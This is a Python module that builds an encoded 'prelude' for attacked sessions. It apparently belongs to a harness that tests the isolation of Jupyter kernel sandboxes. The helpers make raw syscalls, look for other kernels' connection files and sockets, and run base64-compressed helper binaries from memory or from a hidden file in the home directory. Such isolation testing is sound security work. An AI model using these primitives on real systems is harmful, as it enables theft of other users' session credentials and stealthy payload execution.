"""What every attacked session runs first: calls, probes and answers, as Python text."""
import base64, zlib

PRELUDE = r'''
import ctypes, os, json, sys, struct, socket, time, signal, subprocess, threading, stat, glob, fcntl, mmap, base64, zlib, resource, select, errno as E
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
KEEP = {}
def sc(n, *a):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(n), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    return r, (ctypes.get_errno() if r == -1 else 0)
def scr(n, *a):
    r, e = sc(n, *a)
    return dict(ok=True, ret=r) if r >= 0 else dict(ok=False, errno=e)
def rep(**k):
    sys.stdout.write("\n@@ATK@@" + json.dumps(k) + "\n"); sys.stdout.flush()
def tri(fn, *a, **k):
    try:
        v = fn(*a, **k)
        return dict(ok=True, val=v if isinstance(v, (int, str, float, bool, type(None))) else None)
    except OSError as e:
        return dict(ok=False, errno=e.errno)
def slurp(p, n=1 << 20):
    f = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
    try:
        b = b""
        while len(b) < n:              # proc files come a page at a time
            try: c = os.read(f, n - len(b))
            except BlockingIOError: break
            if not c: break
            b += c
        return b.decode("latin-1")
    finally: os.close(f)
def opn(p, fl):
    f = os.open(p, fl); os.close(f)
def child(fn, t=8):
    r, w = os.pipe(); pid = os.fork()
    if pid == 0:
        try:
            try: v = fn()
            except OSError as e: v = dict(ok=False, errno=e.errno)
            except BaseException as e: v = dict(ok=False, exc=repr(e))
            os.write(w, json.dumps(v).encode())
        finally: os._exit(0)
    os.close(w); b = b""; end = time.time() + t
    while time.time() < end:
        x, _, _ = select.select([r], [], [], 0.2)
        if x:
            c = os.read(r, 65536)
            if not c: break
            b += c
    os.close(r)
    p, st = os.waitpid(pid, os.WNOHANG)
    if not p:
        time.sleep(0.1); p, st = os.waitpid(pid, os.WNOHANG)
        if not p:
            os.kill(pid, 9); p, st = os.waitpid(pid, 0)
    v = json.loads(b) if b else dict(ok=False, nothing=1)
    if os.WIFSIGNALED(st): v["sig"] = os.WTERMSIG(st)
    return v
def setname(n):
    libc.prctl(15, n.encode()[:15], 0, 0, 0)
def conninfo():
    "own connection file ('' where the kernel was given none), its content, connection files of others that can be seen"
    cf, own, dirs = '', {}, set()
    try:
        import ipykernel
        cf = os.path.realpath(ipykernel.get_connection_file()); dirs.add(os.path.dirname(cf)); own = json.load(open(cf))
    except Exception: pass
    try:
        from jupyter_core.paths import jupyter_runtime_dir
        dirs.add(jupyter_runtime_dir())
    except Exception: pass
    fs = {os.path.realpath(f) for d in dirs for p in ('/', '/*/', '/../*/') for f in glob.glob(d + p + 'kernel*.json')}
    return cf, own, sorted(fs - {cf})
def sockpaths(own):
    "paths of the kernel's unix sockets: by its connection data, and by the name of every socket it holds"
    ps = {'%s-%s' % (own['ip'], v) for k, v in own.items() if k.endswith('_port')} if own.get('ip', '').startswith('/') else set()
    for f in os.listdir('/proc/self/fd'):
        try: s = socket.socket(fileno=os.dup(int(f)))
        except OSError: continue
        try:
            a = s.getsockname()
            if s.family == socket.AF_UNIX and isinstance(a, str) and a[:1] == '/': ps.add(a)
        except OSError: pass
        s.close()
    return sorted(ps)
def pidns():
    try: return os.readlink("/proc/self/ns/pid")
    except OSError: return "?"
def helper(b64):
    data = zlib.decompress(base64.b64decode(b64))
    try:
        fd = os.memfd_create("h", 0)
    except OSError:
        fd = -1
    if fd >= 0:
        os.write(fd, data); return fd, "/proc/self/fd/%d" % fd
    p = os.path.expanduser("~/.h%d" % os.getpid()); open(p, "wb").write(data); os.chmod(p, 0o755)
    return -1, p
def runh(b64, args, t=15):
    fd, p = helper(b64)
    try:
        o = subprocess.run([p] + args, pass_fds=[fd] if fd >= 0 else [], capture_output=True, timeout=t)
        return dict(rc=o.returncode, out=o.stdout.decode("latin-1"), err=o.stderr.decode("latin-1")[-200:])
    finally:
        if fd >= 0: os.close(fd)
        else: os.unlink(p)
'''
PRELUDE64 = base64.b64encode(zlib.compress(PRELUDE.encode())).decode()
